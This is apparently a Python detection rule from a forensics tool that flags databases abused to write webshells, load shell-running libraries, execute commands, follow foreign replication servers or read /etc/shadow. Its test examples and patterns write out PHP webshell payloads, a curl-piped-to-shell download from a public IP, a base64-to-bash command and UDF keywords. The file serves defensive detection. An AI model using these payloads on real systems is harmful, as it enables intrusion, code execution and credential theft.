# ruff: noqa: S108 — paths on the examined host, not ours.
"""What a database was made to do that is no work of databases, by its own log."""

import re
from collections.abc import Iterable, Iterator
from datetime import UTC, datetime

from hemostat.detect.check import check, fires, quiet
from hemostat.detect.commands_of_daemons import is_plain, reason_of
from hemostat.detect.log_ins import is_public, observables_of, time_text
from hemostat.detect.observables import observables_in
from hemostat.detect.places import below_web_root, hidden_part, is_temporary
from hemostat.model.evidence import Source
from hemostat.model.finding import Claim, RuleTexts, Subject
from hemostat.model.level import Level
from hemostat.model.path import HostPath
from hemostat.model.records import DaemonEvent
from hemostat.model.text import Text

TEXTS = RuleTexts(
    title=Text(
        en="A database was made to run code or write where code starts",
        zh="数据库被利用执行代码，或写入可执行位置",
    ),
    summary=Text(
        en="{where}: {what} {target} ({account} {address} {time}): {command}",
        zh="{where}：{what_zh} {target}（{account} {address} {time}）：{command}",
    ),
    benign=Text(
        en="Administrators load extensions and export tables; exports go to files of data, and"
        " extensions come from the server's own folder.",
        zh="管理员会加载扩展或导出表；但导出的是数据文件，扩展来自数据库自身目录。",
    ),
)
_WHEN = datetime(2026, 11, 20, 3, 0, tzinfo=UTC)
_WHAT = {
    "file_written": ("a file was written:", "写出文件"),
    "log_moved": ("its log was made a file of another kind:", "日志被改写到"),
    "library_loaded": ("a library was loaded:", "加载动态库"),
    "program_run": ("a program was run", "执行外部程序"),
    "follows": ("it follows a foreign server:", "成为外部服务器的从库："),
    "file_read": ("a file of the system was read:", "读取系统文件"),
    "ransom_note": ("a ransom note was left:", "留下勒索信息："),
}
_SCRIPT = re.compile(
    r"\.(?:php\d?|phtml|phar|inc|jspx?|jspf|war|aspx?|ashx|cgi|pl|py|sh|so|htaccess|user\.ini)$",
    re.IGNORECASE,
)
_STARTS = re.compile(
    r"^/(?:etc/(?:cron|ld\.so|profile|init|rc|systemd|passwd|shadow|sudoers|ssh|bash)"
    r"|var/spool/cron|root(?:/|$)|usr/(?:s?bin|lib|lib64|local/s?bin)/)|/\.ssh(?:/|$)|/plugin/"
    r"|/\.(?:bashrc|profile|bash_profile)$"
)
_CODE = re.compile(
    r"<\?(?:php|=)|<%|\beval\s*\(|Runtime\.getRuntime|<jsp:|#!/|\bssh-(?:rsa|ed25519)\b"
    r"|0x(?:3c3f|3C3F|7f454c46|7F454C46)|\*/?\d* \* \* \* \*",
)
_OWN_LIBRARIES = re.compile(
    r"^(?:\$libdir/|/usr/(?:lib|lib64|libexec|local|share)/|/lib|/opt/|/usr/pgsql|/snap/"
    r"|[\w-]+(?:\.so)?$|pgxs|MODULE_PATHNAME)"
)
_CALLS_SHELL = re.compile(r"(?i)\bsys_(?:exec|eval|bineval|get)\b|mysqludf_sys|raptor|cmdshell")
_SECRET = re.compile(
    r"^/etc/(?:g?shadow|passwd|sudoers|ssh/)|^/root/|/\.ssh/|/\.aws/|^/proc/self|wp-config"
)
_TECHNIQUES = {
    "program_run": ("T1059.004", "T1059"),
    "library_loaded": ("T1505.001", "T1129", "T1105"),
    "log_moved": ("T1505.003",),
    "follows": ("T1105", "T1505"),
    "file_read": ("T1005", "T1003.008"),
    "ransom_note": ("T1485", "T1486", "T1657"),
}


def _event(kind: str, target: str = "", command: str = "", **more: str) -> DaemonEvent:
    return DaemonEvent(
        source=Source(path=HostPath("/var/log/db.log"), line=3),
        log="text",
        service=more.get("service", "database"),
        kind=kind,
        time=_WHEN,
        account=more.get("account", ""),
        address=more.get("address", ""),
        target=target,
        command=command,
    )


@check(
    "linux.database.made-to-run-code",
    level=Level.HIGH,
    confidence=Level.HIGH,
    category="database_code",
    attack=("T1190", "T1505"),
    incident_types=("web_intrusion", "webshell", "remote_control", "mining"),
    texts=TEXTS,
    next=("keep-evidence", "find-entry", "rotate-credentials", "check-other-hosts"),
    by_hand="grep -aniE 'outfile|dumpfile|soname|program|lo_export|replicaof|loaded from' {place}",
    examples=(
        fires(_event("file_written", "/var/www/a/c.php", "SELECT '<?php eval($_POST[1]);' INTO")),
        fires(_event("file_written", "/usr/lib/mysql/plugin/u.so", "SELECT 0x7f454c46 INTO DUMP")),
        fires(_event("file_written", "/etc/cron.d/root", service="redis")),
        fires(_event("file_written", "/tmp/x", "select '<?php system($_GET[0])?>' into outfile")),
        fires(_event("log_moved", "/srv/www/htdocs/x.php", "SET GLOBAL general_log_file=")),
        fires(_event("library_loaded", "udf.so", "CREATE FUNCTION sys_eval RETURNS string SONAME")),
        fires(
            _event("library_loaded", "/tmp/p.so", "CREATE FUNCTION x() AS '/tmp/p.so' LANGUAGE C")
        ),
        fires(_event("library_loaded", "/tmp/exp.so", service="redis")),
        fires(_event("library_loaded", "./red2.so", service="redis")),
        fires(_event("program_run", command="echo aWQ=|base64 -d|bash")),
        fires(_event("program_run", command="id; uname -a")),
        fires(_event("program_run", command="curl -s http://198.51.100.9/p.sh|sh")),
        fires(_event("follows", "198.51.100.4:21000", address="198.51.100.4", service="redis")),
        fires(_event("ransom_note", "READ_ME_TO_RECOVER_YOUR_DATA")),
        fires(_event("file_read", "/etc/shadow", "SELECT LOAD_FILE('/etc/shadow')")),
        quiet(_event("file_written", "/var/lib/mysql-files/orders.csv", "SELECT * INTO OUTFILE")),
        quiet(
            _event("file_written", "/tmp/export.txt", "SELECT id INTO OUTFILE '/tmp/export.txt'")
        ),
        quiet(_event("log_moved", "/var/log/mysql/general.log", "SET GLOBAL general_log_file=")),
        quiet(_event("library_loaded", "ha_rocksdb.so", "INSTALL SONAME 'ha_rocksdb.so'")),
        quiet(_event("library_loaded", "$libdir/postgis-3", "CREATE FUNCTION … LANGUAGE c")),
        quiet(_event("library_loaded", "/opt/redis-stack/lib/rejson.so", service="redis")),
        quiet(_event("program_run", command="gzip -9 > /backup/t.gz")),
        quiet(_event("program_run", command="zcat /srv/load/t.csv.gz | cut -f1,2")),
        quiet(_event("follows", "10.0.4.8:6379", address="10.0.4.8", service="redis")),
        quiet(_event("file_read", "/srv/import/a.csv", "LOAD DATA LOCAL INFILE")),
        quiet(_event("ransom_note", "please_read_terms")),
    ),
)
def made_to_run_code(events: Iterable[DaemonEvent]) -> Iterator[Claim]:
    """A database wrote a script, loaded a stranger's library, ran a shell or follows a stranger.

    The same statement is told once for each log. A statement that is only logged may have failed:
    the error log, and the file it names, say which.
    """
    told: set[tuple[str, str, str]] = set()
    for event in events:
        if event.service not in ("database", "redis") or event.kind not in _WHAT:
            continue
        level = _level(event)
        key = event.source.path, event.kind, event.target or event.command[:80]
        if level is None or key in told:
            continue
        told.add(key)
        yield _claim(event, level)


def _level(event: DaemonEvent) -> Level | None:
    target, command = event.target, event.command
    match event.kind:
        case "file_written":
            return _of_file(target, command)
        case "log_moved":
            is_odd = _SCRIPT.search(target) or below_web_root(target) or _STARTS.search(target)
            return Level.HIGH if is_odd else None
        case "library_loaded":
            return _of_library(target, command)
        case "program_run":
            if reason_of(command) or re.match(r"\W*(?:id|whoami|uname|ls|cat /etc)\b", command):
                return Level.HIGH
            return None if is_plain(command) else Level.LOW
        case "follows":
            is_strange = is_public(event.address) and not event.account
            return Level.HIGH if is_strange else None
        case "file_read":
            return Level.MEDIUM if _SECRET.search(target) else None
        case _:
            is_note = re.search(r"(?i)recover|restore|bitcoin|read_?me", target)
            return Level.HIGH if is_note else None


def _of_file(target: str, command: str) -> Level | None:
    if _SCRIPT.search(target) or _STARTS.search(target) or _CODE.search(command):
        return Level.HIGH
    return Level.MEDIUM if below_web_root(target) and not target.endswith(_DATA) else None


_DATA = (".csv", ".txt", ".sql", ".xml", ".json", ".tsv", ".gz")


def _of_library(target: str, command: str) -> Level | None:
    if _CALLS_SHELL.search(command) or is_temporary(target) or hidden_part(target):
        return Level.HIGH
    if target.startswith(("./", "../", "/root/", "/home/", "/var/lib/", "/data")):
        return Level.HIGH if target.startswith(("./", "../", "/var/lib/redis")) else Level.MEDIUM
    return None if _OWN_LIBRARIES.match(target) else Level.MEDIUM


def _claim(event: DaemonEvent, level: Level) -> Claim:
    place = event.source.path
    what, what_zh = _WHAT[event.kind]
    subjects = [Subject("file", place)]
    if event.target.startswith("/"):
        subjects.append(Subject("file", event.target))
    if event.address:
        subjects.append(Subject("address", event.address))
    is_page = event.kind == "file_written" and not event.target.endswith(".so")
    techniques = _TECHNIQUES.get(event.kind, ("T1505.003",) if is_page else ("T1505.001",))
    return Claim(
        subjects=tuple(subjects),
        because=(event,),
        values={
            "where": f"{place}:{event.source.line}" if event.source.line else place,
            "place": place,
            "what": what,
            "what_zh": what_zh,
            "target": event.target or "-",
            "account": event.account or "?",
            "address": event.address,
            "time": time_text(event.time),
            "command": event.command[:300],
        },
        level=level,
        attack=techniques,
        observables=(*observables_of(event.address), *observables_in(event.command)),
        first_seen=event.time,
    )
